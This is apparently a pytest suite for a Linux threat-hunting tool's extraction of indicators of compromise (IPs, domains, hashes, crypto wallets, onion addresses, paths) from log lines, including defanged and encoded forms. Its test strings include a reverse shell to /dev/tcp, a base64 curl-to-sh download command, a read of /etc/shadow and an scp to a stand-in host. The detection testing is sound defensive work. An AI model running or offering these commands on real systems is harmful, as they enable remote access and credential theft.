"""Indicators in texts: what is one, what only looks like one, and which rows hold it."""

from __future__ import annotations

import hashlib
import socket
import time
from base64 import b64encode
from typing import Any

import pandas as pd
import pytest

from linuxhunt.enrich.indicators import COLUMNS, TYPES, indicators
from linuxhunt.enrich.indicators_wallets import keccak256
from linuxhunt.schema import STR

SHA1, SHA256 = hashlib.sha1(b"x").hexdigest(), hashlib.sha256(b"x").hexdigest()
MD5, SHA512 = hashlib.md5(b"x").hexdigest(), hashlib.sha512(b"x").hexdigest()
ONION = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion"
BITCOIN = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
MONERO = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
COMMAND = "curl http://bad.example.org/p.sh"
BASE64 = b64encode(COMMAND.encode()).decode()
WIDE = b64encode("http://bad.example.org".encode("utf-16-le")).decode()
TWICE = b64encode(BASE64.encode()).decode()
HEX = COMMAND.encode().replace(b" ", b"\0").hex().upper()


def texts(*lines: str) -> pd.DataFrame:
    rows = {"SyslogMessage": lines, "EventUid": [f"log:{n}" for n in range(len(lines))]}
    return pd.DataFrame(rows, dtype=STR)


def found(*lines: str) -> list[tuple[Any, ...]]:
    frame = indicators(texts(*lines), ["SyslogMessage"]).astype(object)
    columns = ["Indicator", "Type", "Observed", "DecodedFrom"]
    return sorted(
        frame[columns].where(frame[columns].notna(), None).itertuples(index=False, name=None)
    )


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("at 12:34:56 and 12:34:56.789", id="a time is no IPv6 address"),
        pytest.param("aa:bb:cc:dd:ee:ff 00:0d:3a:13:e3:69", id="nor is a MAC address"),
        pytest.param("00:11:22:33:44:55:66:77", id="nor is an EUI-64"),
        pytest.param("MD5:d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:42:7e", id="nor a fingerprint"),
        pytest.param("std::bad_alloc in Cafe::Bad dead::beef a::b ::", id="nor a C++ or Perl name"),
        pytest.param("999.300.1.2 256.1.1.1 1.2.3.4.5 010.1.1.1", id="no IPv4 address"),
        pytest.param("notes.py a.sh ./run.sh x.pl README.md id_rsa.pub lib.so", id="files"),
        pytest.param("client.py statusreport.sh beats-5.3.0.zip ld-linux-x86-64.so.2", id="more"),
        pytest.param("version 1.2.3.4, foo-1.2.3.4.tar.gz, (1.2.3.4-1ubuntu2)", id="versions"),
        pytest.param("Chrome/120.0.0.0 v5.15.0.1 libx_1.2.3.4+dfsg", id="versions of products"),
        pytest.param("linux-image-5.15.0-91-generic libc6_2.35-0ubuntu3.6 el7.x86_64",
                     id="packages"),
        pytest.param("user@1000.service multi-user.target dev-sda1.device", id="units"),
        pytest.param("org.freedesktop.login1 org.gnome.Software com.ubuntu.SoftwareProperties",
                     id="D-Bus names"),
        pytest.param("java.io.IOException at com.example.Foo.main(Foo.java:1)", id="Java names"),
        pytest.param("net.ipv4.ip_forward=1 kernel.name=x", id="settings"),
        pytest.param("chacha20-poly1305@openssh.com rijndael-cbc@lysator.liu.se", id="algorithms"),
        pytest.param("PFS=curve25519-sha256@libssh.org", id="an algorithm after a key"),
        pytest.param("message-id=<1.2@mail.example.com>", id="a message's id is no address"),
        pytest.param("principal alice@EXAMPLE.COM", id="a Kerberos principal"),
        pytest.param("Invalid user max.li", id="a user's name is no host's"),
        pytest.param("Failed password for max.li", id="nor here"),
        pytest.param('acct="max.li" user=max.li', id="nor in audit's fields"),
        pytest.param("unix:///x file:///x", id="URLs of no host"),
        pytest.param("0.0.0.0 255.255.255.0 255.255.255.255", id="masks and no address"),
        pytest.param("route 203.0.113.0/24", id="a network is no address"),
        pytest.param("4.3.2.1.in-addr.arpa", id="a reverse name"),
        pytest.param("d41d8cd9-8f00-b204-e980-0998ecf8427e", id="a UUID"),
        pytest.param(f"_BOOT_ID={MD5} MESSAGE_ID={MD5} uuid={MD5}", id="ids"),
        pytest.param(f"machine-id {MD5}", id="a machine's id"),
        pytest.param(f"docker-{SHA256}.scope kubepods/{SHA256}", id="containers"),
        pytest.param("0" * 32 + " " + "1234567890" * 4, id="serial numbers"),
        pytest.param(SHA1[:-1] + " " + SHA256 + "0", id="other lengths"),
        pytest.param(f"{BITCOIN[:-1]}b {MONERO[:-1]}B x{ONION}", id="checksums that are wrong"),
        pytest.param("GET /index.php /a/b/c", id="paths of a web server"),
        pytest.param("/dev/null /dev/pts/0 /tmp", id="devices, and a folder of the root's"),
        pytest.param("node.js e.g. i.e. a.m. 12.34 2024.01.02", id="words"),
        pytest.param("web01 db.internal host.local localhost", id="names of the house"),
        pytest.param("", id="nothing"),
    ],
)  # fmt: skip
def test_what_only_looks_like_one_is_none(line: str) -> None:
    assert found(line) == []


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param("from 203.0.113.9 port 22", [("203.0.113.9", "ipv4")], id="IPv4"),
        pytest.param("SRC=203.0.113.9 [203.0.113.9]:22 (203.0.113.9)", [("203.0.113.9", "ipv4")],
                     id="IPv4 among signs"),
        pytest.param("198.51.100.1-198.51.100.3 x", [("198.51.100.1", "ipv4"),
                     ("198.51.100.3", "ipv4")], id="a range by its ends"),
        pytest.param("203.0.113.5/24", [("203.0.113.5", "ipv4")], id="an interface's address"),
        pytest.param("bash -i >& /dev/tcp/203.0.113.9/4444", [("203.0.113.9", "ipv4")],
                     id="bash's device"),
        pytest.param("sshd@3-10.0.0.5:22-203.0.113.9:514.service",
                     [("10.0.0.5", "ipv4"), ("203.0.113.9", "ipv4")], id="a unit of a connection"),
        pytest.param("from 2001:DB8:0:0::7 port 22", [("2001:db8::7", "ipv6")], id="IPv6"),
        pytest.param("[2001:db8::7]:22, 2001:db8::7.", [("2001:db8::7", "ipv6")],
                     id="IPv6 among signs"),
        pytest.param("fe80::1%eth0", [("fe80::1", "ipv6")], id="a scoped address"),
        pytest.param("::ffff:203.0.113.9", [("203.0.113.9", "ipv4")], id="a mapped address"),
        pytest.param("lookup WWW.Evil.EXAMPLE.", [("www.evil.example", "dns")], id="a name"),
        pytest.param("münchen.de", [("xn--mnchen-3ya.de", "dns")], id="a name in punycode"),
        pytest.param("wget evil.sh/x", [("evil.sh", "dns")], id="a file's ending with a path"),
        pytest.param("scp x root@evil.sh:/x", [("evil.sh", "dns")], id="where scp copies to"),
        pytest.param("git@github.com:a/b", [("github.com", "dns")], id="a repository"),
        pytest.param("mail to <Bob.B@Example.com>", [("bob.b@example.com", "email")], id="mail"),
        pytest.param("(HTTP://Evil.example/A(b)).", [("evil.example", "dns"),
                     ("http://Evil.example/A(b)".replace("E", "e", 1), "url")], id="a URL"),
        pytest.param("http://evil.sh:8080", [("evil.sh", "dns"), ("http://evil.sh:8080", "url")],
                     id="a URL with a port"),
        pytest.param("ftp://[2001:db8::7]/x", [("2001:db8::7", "ipv6"),
                     ("ftp://[2001:db8::7]/x", "url")], id="a URL of an address"),
        pytest.param("http://web01/x", [("http://web01/x", "url")], id="a URL of the house"),
        pytest.param("http://evil.example/a%20b", [("evil.example", "dns"),
                     ("http://evil.example/a%20b", "url")], id="a URL is read once"),
        pytest.param(f"{MD5} {SHA1} {SHA256.upper()} sha512:{SHA512}",
                     [(MD5, "md5_hash"), (SHA1, "sha1_hash"), (SHA256, "sha256_hash"),
                      (SHA512, "sha512_hash")], id="hashes"),
        pytest.param(f"http://{ONION}/x", [(ONION, "onion"), (f"http://{ONION}/x", "url")],
                     id="an onion service"),
        pytest.param(f"pay {BITCOIN} or {MONERO}", [(BITCOIN, "bitcoin"), (MONERO, "monero")],
                     id="wallets"),
        pytest.param("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
                     [("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "bitcoin")], id="bech32"),
        pytest.param("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
                     [("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "ethereum")], id="EIP-55"),
        pytest.param("COMMAND=/usr/bin/cat /etc/shadow; >/tmp/.x",
                     [("/usr/bin/cat", "linux_path"), ("/etc/shadow", "linux_path"),
                      ("/tmp/.x", "linux_path")], id="paths"),
        pytest.param("PATH=/usr/sbin:/opt/a/b", [("/opt/a/b", "linux_path"),
                     ("/usr/sbin", "linux_path")], id="paths in a list"),
        pytest.param("Invalid user root from 198.51.100.8 port 22 from 192.0.2.1 port 46038",
                     [("192.0.2.1", "ipv4"), ("198.51.100.8", "ipv4")], id="what a client chose"),
    ],
)  # fmt: skip
def test_what_is_one_is_found(line: str, expected: list[tuple[str, str]]) -> None:
    assert sorted({hit[:2] for hit in found(line)}) == sorted(expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param("hxxps[://]evil[.]example/x",
                     [("evil.example", "dns", "evil[.]example", None),
                      ("https://evil.example/x", "url", "hxxps[://]evil[.]example/x", None)],
                     id="a URL"),
        pytest.param("hxxp://203[.]0[.]113[.]9", [
                         ("203.0.113.9", "ipv4", "203[.]0[.]113[.]9", None),
                         ("http://203.0.113.9", "url", "hxxp://203[.]0[.]113[.]9", None)],
                     id="of an address"),
        pytest.param("evil(dot)sh", [("evil.sh", "dns", "evil(dot)sh", None)],
                     id="defanging says that it is a name"),
        pytest.param("bob [at] evil (dot) example",
                     [("bob@evil.example", "email", "bob [at] evil (dot) example", None)],
                     id="mail with blanks"),
        pytest.param("2001[:]db8[:][:]7", [("2001:db8::7", "ipv6", "2001[:]db8[:][:]7", None)],
                     id="IPv6"),
    ],
)  # fmt: skip
def test_defanged_ones_are_found_and_shown_as_written(
    line: str, expected: list[tuple[Any, ...]]
) -> None:
    assert found(line) == expected


@pytest.mark.parametrize(
    ("line", "observed", "how"),
    [
        pytest.param(f"echo {BASE64} | base64 -d | sh", BASE64, "base64", id="base64"),
        pytest.param(f"echo {BASE64.rstrip('=')}|sh", BASE64.rstrip("="), "base64",
                     id="without its padding"),
        pytest.param(f"proctitle={HEX}", HEX, "hex", id="audit's hexadecimal"),
        pytest.param(f"echo {TWICE}", TWICE, "base64 > base64", id="twice"),
        pytest.param("GET /?u=curl%20http%3A%2F%2Fbad.example.org%2Fp.sh HTTP/1.1",
                     "/?u=curl%20http%3A%2F%2Fbad.example.org%2Fp.sh", "url", id="URL encoding"),
    ],
)  # fmt: skip
def test_payloads_are_decoded_and_looked_into(line: str, observed: str, how: str) -> None:
    assert found(line) == [
        ("bad.example.org", "dns", observed, how),
        ("http://bad.example.org/p.sh", "url", observed, how),
    ]


def test_wide_text_is_decoded() -> None:
    assert found(f"pwsh -enc {WIDE}") == [
        ("bad.example.org", "dns", WIDE, "base64"),
        ("http://bad.example.org", "url", WIDE, "base64"),
    ]


def test_text_in_hexadecimal_is_no_hash() -> None:
    title = b"/bin/sh\0-c\0true #".hex()[:32]
    assert found(f"proctitle={title}") == [("/bin/sh", "linux_path", title, "hex")]


def test_each_indicator_has_its_rows_in_their_order() -> None:
    frame = texts(
        "from 203.0.113.9 port 1", "hxxp://evil[.]example/x", "to 203[.]0[.]113[.]9",
        "from 203.0.113.9 port 1", "nothing",
    ).assign(More=pd.Series(["203.0.113.9", None, None, None, "evil.example"], dtype=STR))  # fmt: skip
    expected = pd.DataFrame(
        [
            ("203.0.113.9", "ipv4", 3, ["log:0", "log:2", "log:3"], "203.0.113.9", None),
            ("evil.example", "dns", 2, ["log:1", "log:4"], "evil[.]example", None),
            ("http://evil.example/x", "url", 1, ["log:1"], "hxxp://evil[.]example/x", None),
        ],
        columns=list(COLUMNS),
    )
    found = indicators(frame, ["SyslogMessage", "More", "NotThere"])
    text = ["Indicator", "Type", "Observed", "DecodedFrom"]
    pd.testing.assert_frame_equal(
        found, expected.astype(dict.fromkeys(text, STR) | {"Count": "Int64"})
    )


@pytest.mark.parametrize("uid", [None, "EventUid"])
def test_rows_without_ids_are_counted(uid: str | None) -> None:
    frame = texts("203.0.113.9", "203.0.113.9").drop(columns=["EventUid"])
    found = indicators(frame, ["SyslogMessage"], uid)
    assert found[["Indicator", "Count", "RecordIds"]].to_dict("records") == [
        {"Indicator": "203.0.113.9", "Count": 2, "RecordIds": []}
    ]


@pytest.mark.parametrize("frame", [texts(), texts("nothing here"), texts("203.0.113.9")[["EventUid"]]],
                         ids=["no rows", "no indicator", "no such column"])  # fmt: skip
def test_nothing_found_is_an_empty_frame_of_the_same_types(frame: pd.DataFrame) -> None:
    some = indicators(texts("203.0.113.9"), ["SyslogMessage"])
    none = indicators(frame, ["SyslogMessage"])
    assert none.empty
    assert dict(none.dtypes) == dict(some.dtypes)
    assert list(none.columns) == list(COLUMNS)


def test_types_are_those_that_are_listed() -> None:
    line = f"203.0.113.9 2001:db8::1 http://evil.example/ a@evil.example {MD5} {SHA1} {SHA256} {SHA512} {ONION} {BITCOIN} {MONERO} /etc/x 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"
    assert {kind for _, kind, _, _ in found(line)} == set(TYPES)


def test_keccak_is_that_of_before_sha_3() -> None:
    empty = "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
    assert keccak256(b"").hex() == empty
    # Ethereum's hash of a function's name, over more than one block as well.
    assert keccak256(b"transfer(address,uint256)").hex()[:8] == "a9059cbb"
    assert keccak256(b"a" * 136) != keccak256(b"a" * 137)


def test_no_network_is_asked_and_no_file_written(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    def refuse(*_: Any, **__: Any) -> Any:
        raise AssertionError("something was asked of a network")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("TLDEXTRACT_CACHE", str(tmp_path / "cache"))
    assert [hit[0] for hit in found("www.new-name.co.uk")] == ["www.new-name.co.uk"]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "unit",
    [
        pytest.param("a.", id="labels"),
        pytest.param("1.1.1.1/", id="addresses"),
        pytest.param("1-", id="digits and hyphens"),
        pytest.param("a@", id="at signs"),
        pytest.param(":", id="colons"),
        pytest.param("/tmp/", id="paths"),
        pytest.param("http://a.b/", id="URLs"),
        pytest.param("[.]", id="fangs"),
        pytest.param("%41", id="URL encoding"),
        pytest.param("QUJD", id="base64"),
        pytest.param("0123456789abcdef" * 4 + "/", id="hashes"),
        pytest.param("user ", id="words before a name"),
    ],
)
def test_a_text_made_to_be_slow_is_not(unit: str) -> None:
    line = unit * (60_000 // len(unit))
    began = time.process_time()
    indicators(texts(line, f"{line}!"), ["SyslogMessage"])
    assert time.process_time() - began < 5
